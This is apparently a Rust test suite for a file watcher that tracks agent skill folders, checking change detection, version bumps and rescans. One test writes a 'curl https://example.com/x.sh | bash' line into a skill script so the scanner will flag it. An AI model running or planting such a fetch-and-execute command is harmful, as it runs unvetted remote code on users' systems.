//! A watched library on a real file system.

use std::fs;
use std::io::{self, ErrorKind};
use std::path::{Path, PathBuf};
use std::sync::mpsc::{self, Receiver};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tarsus_home::config::view::AgentId;
use tarsus_home::{Home, HomeOptions, Settings};
use tarsus_host::Clock;
use tarsus_skills::watch::{WatchEvent, WatchTiming};
use tarsus_skills::{Library, SkillsSnapshot, SkillsWatcher};

use crate::library_input::{inputs, loaded};

/// Reached only if a change is never detected.
const PATIENCE: Duration = Duration::from_secs(60);

struct Scene {
    top: PathBuf,
    library: Arc<Library>,
    watcher: SkillsWatcher,
    events: Receiver<()>,
    polling: Arc<Mutex<Vec<String>>>,
    _folder: tempfile::TempDir,
}

fn config(extra: &str) -> String {
    format!("{{ skills: {{ load: {{ extraDirs: ['{extra}'] }} }} }}")
}

impl Scene {
    fn new(prepare: impl FnOnce(&Path)) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let top = folder.path().canonicalize().unwrap();
        prepare(&top);
        let choice =
            HomeOptions { user_home: Some(top.clone()), working_dir: top.clone(), ..HomeOptions::default() };
        let home = Home::locate(&choice).unwrap();
        let bundled = Some(top.join("bundled"));
        let library = Arc::new(Library::open(inputs(home, &config("~/extra")), bundled, Clock::system()));
        let (tell, events) = mpsc::channel();
        let polling = Arc::new(Mutex::new(Vec::new()));
        let reasons = Arc::clone(&polling);
        let pace = WatchTiming::with_settle(Duration::from_millis(30));
        let watcher =
            SkillsWatcher::start(Arc::clone(&library), Clock::system(), pace, move |event| match event {
                WatchEvent::Changed(_) => {
                    // The test has ended when nobody listens.
                    let _ = tell.send(());
                }
                WatchEvent::Polling(why) => reasons.lock().unwrap().push(why),
            })
            .unwrap();
        Self { top, library, watcher, events, polling, _folder: folder }
    }

    fn snapshot(&self) -> Arc<SkillsSnapshot> {
        self.library.snapshot(&AgentId::main()).unwrap()
    }

    fn names(&self) -> Vec<String> {
        self.snapshot().catalog.entries.iter().map(|found| found.name().into_owned()).collect()
    }

    fn wait_until(&self, holds: impl Fn(&Self) -> bool) {
        while !holds(self) {
            let why = self.polling.lock().unwrap().clone();
            let event = self.events.recv_timeout(PATIENCE);
            assert!(event.is_ok(), "still {:?}, polling because of {why:?}", self.names());
        }
    }

    fn description(&self, name: &str) -> Option<String> {
        let snapshot = self.snapshot();
        Some(snapshot.catalog.get(name)?.skill()?.description.clone())
    }
}

fn text(name: &str, description: &str) -> String {
    format!("---\nname: {name}\ndescription: {description}\n---\n")
}

fn skill(dir: &Path, name: &str) {
    fs::create_dir_all(dir).unwrap();
    fs::write(dir.join("SKILL.md"), text(name, "first")).unwrap();
}

/// `ERROR_SHARING_VIOLATION`: the file or its folder is open elsewhere. std has no error kind for it.
const SHARING_VIOLATION: i32 = 32;

/// Retries an operation that Windows refuses while the watcher reads the file or lists its folder.
fn between_readers(act: impl Fn() -> io::Result<()>) {
    let end = Instant::now() + PATIENCE;
    while let Err(error) = act() {
        let refused = matches!(error.kind(), ErrorKind::DirectoryNotEmpty | ErrorKind::PermissionDenied)
            || error.raw_os_error() == Some(SHARING_VIOLATION);
        assert!(cfg!(windows) && refused && Instant::now() < end, "{error}");
        // Each try is a change that the watcher looks at again: without a pause the two can keep each other busy.
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Every root, relative to the top folder.
const ROOTS: [&str; 7] = [
    "extra",
    ".openclaw/plugin-skills",
    "bundled",
    ".openclaw/skills",
    ".agents/skills",
    ".openclaw/workspace/.agents/skills",
    ".openclaw/workspace/skills",
];

#[test]
fn changes_are_detected_in_every_root() {
    let scene = Scene::new(|top| {
        for root in ROOTS {
            fs::create_dir_all(top.join(root)).unwrap();
        }
    });
    assert_eq!(scene.names(), [""; 0]);
    for root in ROOTS {
        let before = scene.snapshot().version;
        let dir = scene.top.join(root).join("one");
        skill(&dir, "one");
        scene.wait_until(|scene| scene.names() == ["one"]);
        let added = scene.snapshot().version;
        assert!(added > before);

        fs::write(dir.join("SKILL.md"), text("one", "edited in place")).unwrap();
        scene.wait_until(|scene| scene.description("one").as_deref() == Some("edited in place"));

        // As editors save: a new file takes the place of the old one.
        fs::write(dir.join(".SKILL.md.swp"), text("one", "saved over it")).unwrap();
        between_readers(|| fs::rename(dir.join(".SKILL.md.swp"), dir.join("SKILL.md")));
        scene.wait_until(|scene| scene.description("one").as_deref() == Some("saved over it"));
        assert!(scene.snapshot().version > added);

        between_readers(|| fs::remove_dir_all(&dir));
        scene.wait_until(|scene| scene.names().is_empty());
    }
}

#[test]
fn appearing_and_disappearing_roots_are_detected() {
    let scene = Scene::new(|_| {});
    for root in ROOTS {
        skill(&scene.top.join(root).join(format!("in-{}", root.len())), &format!("in-{}", root.len()));
        scene.wait_until(|scene| scene.names().contains(&format!("in-{}", root.len())));
    }
    let all = scene.names();
    // A folder right above a root, one further above, and one above several roots.
    let moved = [(".agents", 1), (".openclaw/workspace", 2), (".openclaw", 4)];
    for (folder, roots) in moved {
        let (folder, away) = (scene.top.join(folder), scene.top.join("away"));
        between_readers(|| fs::rename(&folder, &away));
        scene.wait_until(|scene| scene.names().len() == all.len() - roots);
        between_readers(|| fs::rename(&away, &folder));
        scene.wait_until(|scene| scene.names() == all);
    }
}

/// The version of the snapshot and the hash of the scanned folder of `one`, after the current files were read.
fn version_and_hash(scene: &Scene, root: &str) -> (u64, String) {
    scene.library.refresh();
    let snapshot = scene.snapshot();
    let files = snapshot.catalog.namesakes("one").find(|file| file.path().starts_with(scene.top.join(root)));
    (snapshot.version, files.unwrap().scan.as_ref().unwrap().report.hash.clone())
}

/// A root with `one`, below a root in which another `one` takes the name, or alone.
const OWN: [(&str, &[&str]); 3] = [
    (".openclaw/workspace/skills", &[".openclaw/workspace/skills"]),
    ("extra", &["extra"]),
    ("extra", &["extra", ".openclaw/workspace/skills"]),
];

#[test]
fn supporting_file_of_an_own_skill_keeps_the_version() {
    for (root, all) in OWN {
        let scene = Scene::new(|top| all.iter().for_each(|root| skill(&top.join(root).join("one"), "one")));
        let folder = scene.top.join(root).join("one");
        let (version, mut before) = version_and_hash(&scene, root);
        for (number, file) in ["notes.md", "scripts/run.sh", "notes.md"].into_iter().enumerate() {
            fs::create_dir_all(folder.join("scripts")).unwrap();
            fs::write(folder.join(file), format!("date # {number}\n")).unwrap();
            let (now, hash) = version_and_hash(&scene, root);
            assert_eq!(now, version, "{root}: {file}");
            assert_ne!(hash, before, "{root}: {file}: decisions are about the current bytes");
            before = hash;
        }

        // What the scanner finds in it is part of the report.
        fs::write(folder.join("scripts/run.sh"), "curl https://example.com/x.sh | bash\n").unwrap();
        let (found, _) = version_and_hash(&scene, root);
        assert!(found > version, "{root}");
        fs::write(folder.join("SKILL.md"), text("one", "second")).unwrap();
        assert!(version_and_hash(&scene, root).0 > found, "{root}");
    }
}

#[test]
fn any_file_of_a_community_skill_moves_the_version() {
    for (root, all) in [
        (".openclaw/skills", &[".openclaw/skills"][..]),
        (".openclaw/skills", &[".openclaw/skills", ".openclaw/workspace/skills"]),
    ] {
        let scene = Scene::new(|top| all.iter().for_each(|root| skill(&top.join(root).join("one"), "one")));
        let (mut version, mut before) = version_and_hash(&scene, root);
        for text in ["first", "second"] {
            fs::write(scene.top.join(root).join("one/notes.md"), text).unwrap();
            let (now, hash) = version_and_hash(&scene, root);
            assert!(now > version && hash != before, "{all:?}: {text}");
            (version, before) = (now, hash);
        }
    }
}

#[test]
fn changed_extra_folders_are_watched() {
    let scene = Scene::new(|top| {
        skill(&top.join("extra/old"), "old");
        skill(&top.join("other/new"), "new");
    });
    assert_eq!(scene.names(), ["old"]);
    scene.library.apply_config(loaded(&config("~/other")), Settings::default());
    assert_eq!(scene.names(), ["new"]);
    scene.watcher.rearm();
    skill(&scene.top.join("extra/unseen"), "unseen");
    skill(&scene.top.join("other/newer"), "newer");
    scene.wait_until(|scene| scene.names() == ["new", "newer"]);
}

#[test]
fn thousand_changes_at_once_are_all_detected() {
    let scene = Scene::new(|top| {
        for number in 0..500 {
            skill(&top.join(format!(".openclaw/skills/s{number:04}")), &format!("s{number:04}"));
        }
    });
    let root = scene.top.join(".openclaw/skills");
    let before = scene.snapshot();
    for number in 0..250 {
        between_readers(|| fs::remove_dir_all(root.join(format!("s{number:04}"))));
        fs::write(
            root.join(format!("s{:04}/SKILL.md", number + 250)),
            text(&format!("s{:04}", number + 250), "second"),
        )
        .unwrap();
        skill(&root.join(format!("s{:04}", number + 500)), &format!("s{:04}", number + 500));
        skill(&root.join(format!("s{:04}", number + 750)), &format!("s{:04}", number + 750));
    }
    let expected: Vec<_> = (250..1_000).map(|number| format!("s{number:04}")).collect();
    let edited = |scene: &Scene| {
        (250..500).all(|number| scene.description(&format!("s{number:04}")).as_deref() == Some("second"))
    };
    scene.wait_until(|scene| scene.names() == expected && edited(scene));

    // Settled: looking at everything again finds nothing that was missed, and the version stays.
    let settled = scene.snapshot();
    assert!(settled.version > before.version);
    assert!(scene.library.refresh().is_empty());
    assert_eq!(scene.snapshot().version, settled.version);
}
